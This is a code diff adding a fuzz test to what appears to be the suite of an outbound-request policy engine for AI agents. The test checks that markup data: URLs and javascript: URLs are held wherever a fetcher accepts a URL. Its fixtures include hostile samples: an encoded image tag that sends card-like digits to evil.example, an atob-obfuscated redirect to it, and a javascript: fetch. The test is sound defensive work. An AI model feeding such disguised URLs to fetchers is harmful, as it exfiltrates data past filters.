@@ -271,3 +271,38 @@ t.test('a host-named field of a write naming another site is held', async (t) =>
     return true;
   }), { numRuns: fuzzRuns, ...fuzzSeed });
 });
+
+// Eighteenth pass: a document a fetcher renders whose requests no pattern reads — a `data:` URL of
+// markup (base64 hides the URL it loads), a `javascript:` URL — wherever a fetcher's URL goes.
+// Property: over spellings (case, blanks, an escaped colon or slash, media type parameters) ×
+// places (a URL-named query key in its servers' spellings, a reader's path, a scraping API's field,
+// a browser API's `goto`), each is held; a PNG data URL in the same places goes on.
+t.test('a data: URL of markup or a javascript: URL where a fetcher\'s URL goes is held', async (t) => {
+  await engine.load({ ...shipped, data: mergeData(shipped.data, { config: { allowed_hosts: ['r.reader.example', { host: 'api.agent.example', methods: ['POST'] }] } }) });
+  const payload = Buffer.from('<img src="https://evil.example/?d=4111">').toString('base64');
+  const doc = fc.constantFrom(
+    `data:text/html;base64,${payload}`, `DATA:Text/HTML;charset=utf-8;base64,${payload}`, `data:image/svg+xml;base64,${payload}`,
+    `data:application/xhtml+xml,${encodeURIComponent('<img src=x>')}`, ` data:text/html,<b>x</b>`, `data%3Atext%2Fhtml;base64,${payload}`,
+    `javascript:location=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGU=')`, `JavaScript:void(0)`, `\tjavascript%3Afetch(1)`);
+  const place = fc.constantFrom('query', 'query[]', 'path', 'field', 'goto');
+  const send = async (where: string, text: string) => {
+    const post = (body: unknown) => engine.decide(describeRequest({ method: 'POST', url: 'https://api.agent.example/v1/run', headers: [['content-type', 'application/json']], body: Buffer.from(JSON.stringify(body)), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} } }));
+    if (where === 'query') return decide(`https://${READER}/img?imageUrl=${encodeURIComponent(text)}`);
+    if (where === 'query[]') return decide(`https://${READER}/img?url[]=${encodeURIComponent(text)}`);
+    if (where === 'path') return decide(`https://${READER}/${text.replace(/[\t ]/g, encodeURIComponent).replace(/[#?]/g, encodeURIComponent)}`);
+    return post(where === 'goto' ? { goto: text } : { options: { url: text } });
+  };
+  await fc.assert(fc.asyncProperty(doc, place, async (text, where) => {
+    const held = await send(where, text);
+    if (held.action !== 'approve' || held.rule !== 'host.fetches_url') {
+      t.fail(`${JSON.stringify(text)} as ${where} was ${held.action} ${held.rule}: ${held.reason}`);
+      return false;
+    }
+    const png = await send(where, 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB');
+    if (png.action !== 'allow') {
+      t.fail(`a PNG data URL as ${where} was ${png.action} ${png.rule}: ${png.reason}`);
+      return false;
+    }
+    return true;
+  }), { numRuns: fuzzRuns, ...fuzzSeed });
+});
